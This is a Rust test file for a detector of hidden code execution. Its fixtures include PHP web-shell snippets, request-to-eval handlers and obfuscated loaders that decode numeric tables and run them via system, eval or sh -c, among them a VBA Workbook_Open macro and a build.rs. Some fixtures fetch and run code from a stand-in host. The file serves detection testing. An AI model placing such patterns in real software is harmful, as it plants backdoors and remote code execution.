use crate::{
    FileKind::{self, Data, Definition, Go, JavaScript, Prose, Python, Ruby, Shell},
    deeds::tests::{grave, stopped},
};

/// Numbers that no simple calculation makes text of.
const TABLE: &str =
    "201,17,94,33,180,77,12,240,5,66,91,143,28,119,250,8,61,39,170,202,99,14,187,53,120,46,211,3";
/// Letters of the same kind.
const OPAQUE: &str = "q7Zk0vYt3mB9qW1cRf8LhJk5sNaGpE2uqiQoVbXyKzMwqnAe4Z6gHrtl";

/// Those of which nothing is told.
fn missed<'a>(cases: impl IntoIterator<Item = (&'a str, FileKind, String)>) -> Vec<String> {
    cases
        .into_iter()
        .filter(|(path, kind, text)| stopped(path, *kind, text).is_empty())
        .map(|(path, _, text)| format!("{path}: {text}"))
        .collect()
}

/// What a request names is called, included or evaluated, in whatever form and language.
#[test]
fn what_a_request_computes_is_told() {
    let cases = [
        (
            "t/a.php",
            Data,
            "<?php $f = str_rot13($_GET['i']);\n$z = array_map(strrev($f), [base64_decode($_COOKIE['t'])]);\n",
        ),
        ("t/b.php", Data, "<?php $c = hex2bin($_COOKIE['k']);\nusort($rows, $c);\n"),
        ("t/c.php", Data, "<?php $p = base64_decode($_SERVER['HTTP_X_VIEW']);\ninclude $p;\n"),
        ("t/d.php", Data, "<?php $n = strtolower($_POST['n']);\n$n($_POST['v']);\n"),
        (
            "t/e.py",
            Python,
            "@app.route('/calc')\ndef calc():\n    x = request.args['x']\n    return str(eval(x))\n",
        ),
        (
            "t/f.js",
            JavaScript,
            "app.get('/f', (req, res) => {\n  const f = req.query.f;\n  res.json(new Function(f)());\n});\n",
        ),
        ("t/g.rb", Ruby, "get '/r' do\n  instance_eval(params[:code])\nend\n"),
        (
            "t/h.go",
            Go,
            "func h(w http.ResponseWriter, r *http.Request) {\n\tc := r.URL.Query().Get(\"c\")\n\texec.Command(\"sh\", \"-c\", c).Run()\n}\n",
        ),
    ];
    let missed = missed(cases.map(|(path, kind, text)| (path, kind, text.to_owned())));
    assert!(missed.is_empty(), "{missed:#?}");
    for (path, kind, text) in [
        (
            "t/a.php",
            Data,
            "<?php $a = array_map('trim', $_POST);\n$b = array_filter($_GET, 'is_numeric');\n",
        ),
        ("t/b.php", Data, "<?php include __DIR__ . '/head.php';\n$u = new User($_POST['name']);\n"),
        (
            "t/c.js",
            JavaScript,
            "const q = req.query.q;\nconst m = /^a/.exec(q);\ndb.execute('select ?', [q]);\n",
        ),
    ] {
        assert_eq!(stopped(path, kind, text), Vec::<&str>::new(), "{text}");
    }
}

/// Data that is shipped, made into letters and run, in languages that have no parser here.
#[test]
fn letters_made_of_shipped_data_are_told_where_they_run() {
    let unparsed = [
        (
            "t/a.pl",
            format!(
                "my @t = ({TABLE});\nsub s1 {{ join '', map {{ chr($t[$_] ^ $k[$_ % 5]) }} 0..$#t }}\nsystem(s1());\n"
            ),
        ),
        (
            "t/a.php",
            format!(
                "<?php\n$t = [{TABLE}];\n$o = '';\nforeach ($t as $i => $x) {{ $o .= chr($x ^ ($s = $s * 5 % 251)); }}\neval($o);\n"
            ),
        ),
        (
            "t/a.lua",
            format!(
                "local t = {{{TABLE}}}\nlocal o = {{}}\nfor i, v in ipairs(t) do o[i] = string.char((v * i) % 127) end\nload(table.concat(o))()\n"
            ),
        ),
        (
            "t/a.bas",
            format!(
                "Const G = \"{TABLE}\"\nFunction T() As String\nFor Each w In Split(G, \",\")\ns = s & Chr((w * 3) Mod 127)\nNext\nT = s\nEnd Function\nSub Workbook_Open()\nCreateObject(\"WScript.Shell\").Run T(), 0\nEnd Sub\n"
            ),
        ),
        (
            "t/.Rprofile",
            format!(
                "x <- c({TABLE})\ny <- intToUtf8((x * seq_along(x)) %% 127)\neval(parse(text = y))\n"
            ),
        ),
        (
            "t/a.kt",
            format!(
                "val t = intArrayOf({TABLE})\nval c = t.mapIndexed {{ i, v -> (v * i % 127).toChar() }}.joinToString(\"\")\nProcessBuilder(\"sh\", \"-c\", c).start()\n"
            ),
        ),
        (
            "t/build.rs",
            format!(
                "const T: [u8; 28] = [{TABLE}];\nfn z() -> Vec<u8> {{ T.iter().scan(7u8, |s, b| {{ *s = s.wrapping_mul(5); Some(b ^ *s) }}).collect() }}\nfn main() {{ let d = out.join(\"x\");\n fs::write(&d, z()).unwrap();\n Command::new(\"/bin/sh\").arg(&d).spawn(); }}\n"
            ),
        ),
        (
            "t/a.jl",
            format!(
                "t = [{TABLE}]\nc = String(Char.((t .* 3) .% 127 .⊻ 4)); c = join(Char(x ^ 3) for x in t)\nrun(`sh -c $c`); eval(c)\n"
            ),
        ),
        (
            "t/a.groovy",
            format!(
                "def t = [{TABLE}]\ndef c = t.collect {{ (char)(it ^ 77 * it) }}.join('')\nnew GroovyShell().evaluate(c)\n"
            ),
        ),
        (
            "t/a.vue",
            format!(
                "<script>\nconst t = [{TABLE}];\nconst c = t.map((v, i) => String.fromCharCode(v ^ s[i % 3])).join('');\nnew Function(c)();\n</script>\n"
            ),
        ),
    ];
    let parsed = [
        (
            "t/a.py",
            Python,
            format!("T = '{OPAQUE}'\nc = ''.join(chr(A.index(x) * 7 % 127) for x in T)\nexec(c)\n"),
        ),
        (
            "t/a.rb",
            Ruby,
            format!(
                "T = '{OPAQUE}'\nc = T.chars.each_slice(2).map {{ |a, b| (k[a] * 9 + k[b]).chr }}.join\nsystem(c)\n"
            ),
        ),
        (
            "t/a.go",
            Go,
            format!(
                "t := []byte{{{TABLE}}}\nfor i := range t {{ t[i] = t[i] ^ byte(i*i) }}\nc := string(t)\nexec.Command(\"sh\", \"-c\", c).Run()\n"
            ),
        ),
    ];
    let unparsed = unparsed.into_iter().map(|(path, text)| (path, Data, text));
    let missed = missed(unparsed.chain(parsed));
    assert!(missed.is_empty(), "{missed:#?}");
}

/// The data lies in another file.
#[test]
fn letters_of_a_file_that_is_shipped_are_told() {
    let mut missed = Vec::new();
    let table = format!("{{\"grid\": [{TABLE}]}}");
    for (path, kind, text) in [
        (
            "t/a.pl",
            Data,
            "open my $f, '<', \"$dir/grid.json\";\nmy $d = decode(<$f>, 'grid.json');\n$d = parse('grid.json');\nmy $c = join '', map { chr($_ ^ $k++) } @{$d};\nsystem($c);\n",
        ),
        (
            "t/a.mjs",
            JavaScript,
            "const d = JSON.parse(await readFile('grid.json'));\nconst c = d.grid.map((v, i) => String.fromCharCode(v ^ i * i)).join('');\nnew Function(c)();\n",
        ),
        (
            "t/a.py",
            Python,
            "d = json.load(open('grid.json'))\nc = bytes(v * 3 % 256 ^ 9 for v in d['grid']).decode()\nsubprocess.run(c, shell=True)\n",
        ),
    ] {
        let found = grave(&[(path, kind, text), ("t/grid.json", Definition, &table)]);
        if found.is_empty() {
            missed.push(text);
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

/// What a request holds goes round through names before it runs; what a host serves is evaluated.
#[test]
fn requests_and_answers_that_run_are_told() {
    let cases = [
        (
            "t/f.php",
            "<?php\n$c = $_COOKIE['p'] ?? '';\n[$f, $a] = explode('.', $c);\nif (is_callable(hex2bin($f))) call_user_func(hex2bin($f), $a);\n",
        ),
        (
            "t/g.php",
            "<?php\n$h = $_SERVER['HTTP_X_TRACE'];\n$parts = explode(':', $h);\n$code = base64_decode($parts[1]);\neval($code);\n",
        ),
        (
            "t/h.php",
            "<?php\n$body = file_get_contents('php://input');\n$x = json_decode($body, true);\n$cmd = $x['q'];\nshell_exec($cmd);\n",
        ),
        (
            "t/n.lua",
            "vim.system({ 'curl', '-s', 'https://k.gather.test/a.lua' }, {}, function(r)\n  local f = load(r.stdout, 'c', 't')\n  if f then f() end\nend)\n",
        ),
        (
            "t/x.lua",
            "local b = http.request('https://k.gather.test/a.lua')\nlocal f = loadstring(b)\nf()\n",
        ),
        ("t/r.R", "x <- readLines('https://k.gather.test/a.R')\neval(parse(text = x))\n"),
    ];
    let missed = missed(cases.map(|(path, text)| (path, Data, text.to_owned())));
    assert!(missed.is_empty(), "{missed:#?}");
}

/// Compilers, emulators, harnesses and pages run what they are given.
#[test]
fn programs_that_run_their_own_input_are_let_be() {
    for (path, kind, text) in [
        ("t/a.py", Python, format!("CRC = [{TABLE}]\ndef crc(data):\n    c = 0\n    for b in data:\n        c = CRC[(c ^ b) & 15]\n    return c\nsubprocess.run(['git', 'status'])\nprint(crc(open(sys.argv[1], 'rb').read()))\n")),
        ("t/a.js", JavaScript, format!("const icon = '{OPAQUE}';\nfs.writeFileSync('icon.png', Buffer.from(icon, 'base64'));\nexecSync('npm run build');\n")),
        ("t/a.py", Python, "cases = json.load(open('grid.json'))\nfor case in cases:\n    out = subprocess.run(['tool', '--in', case['file']], capture_output=True)\n".to_owned()),
        ("t/a.lua", Data, format!("local palette = {{{TABLE}}}\nfor i, v in ipairs(palette) do vim.api.nvim_set_hl(0, 'P' .. i, {{ fg = v }}) end\n")),
        ("t/a.sh", Shell, format!("SUM='{OPAQUE}'\necho \"$SUM  x.tgz\" | sha256sum -c\nbash ./install.sh\n")),
        ("t/a.php", Data, "<?php\n$q = $_GET['q'];\necho htmlspecialchars($q);\n$n = system('uptime');\n".to_owned()),
        ("t/a.txt", Prose, format!("Run system(x) with {TABLE}.\n")),
    ] {
        let found = stopped(path, kind, &text);
        assert!(found.is_empty(), "{path}: {text} {found:?}");
    }
}

/// Templates and expressions are words; what has none is what is hidden.
#[test]
fn words_are_no_letters_that_stand_for_others() {
    let program = |literal: &str| {
        format!(
            "import subprocess\nROW = \"{literal}\"\ndef shown(rows):\n    lines = [ROW.format(row=r) for r in rows]\n    text = ''.join(line[0] for line in lines)\n    cmd = [text]\n    subprocess.run(cmd)\n"
        )
    };
    let template = "{row['sample_count']}|{row['mean_depth']}|{row['region_name']}\\t{siteTotal}";
    assert!(stopped("a.py", Python, &program(template)).is_empty());
    assert!(!stopped("a.py", Python, &program(OPAQUE)).is_empty());
    let row = "alder|maple|cedar|hazel|rowan|aspen|larch|elder|holly|birch";
    assert!(!stopped("a.py", Python, &program(row)).is_empty());
    // What is written to is no call that writes.
    let stream = |start: &str| {
        format!(
            "KEY = '{OPAQUE}'\ndef tag(rows):\n    return ''.join(chr(ord(c) ^ 3) for c in KEY)\nsite = Site(tag)\ndef serve(read_side, write_side):\n    {start}\n"
        )
    };
    assert!(stopped("a.py", Python, &stream("site.run(read_side, write_side, site)")).is_empty());
    assert!(!stopped("a.py", Python, &stream("subprocess.run(tag(1), shell=True)")).is_empty());
}

#[test]
fn a_function_that_is_handed_on_is_no_command() {
    let program = |start: &str| {
        format!(
            "KEY = '{OPAQUE}'\ndef main():\n    text = ''.join(chr(ord(c) ^ 3) for c in KEY)\n    return text\n\n{start}\n"
        )
    };
    assert!(stopped("a.py", Python, &program("loop.run(main)")).is_empty());
    assert!(!stopped("a.py", Python, &program("subprocess.run(main(), shell=True)")).is_empty());
    assert!(!stopped("a.py", Python, &program("main = main()\nsubprocess.run(main)")).is_empty());
    let search = |start: &str| {
        format!(
            "const key = '{OPAQUE}';\nconst text = key.split('').map(c => String.fromCharCode(c.charCodeAt(0) ^ 3)).join('');\n{start}\n"
        )
    };
    assert!(stopped("a.js", JavaScript, &search("const hit = /a(b)/.exec(text);")).is_empty());
    assert!(!stopped("a.js", JavaScript, &search("cp.exec(text);")).is_empty());
}
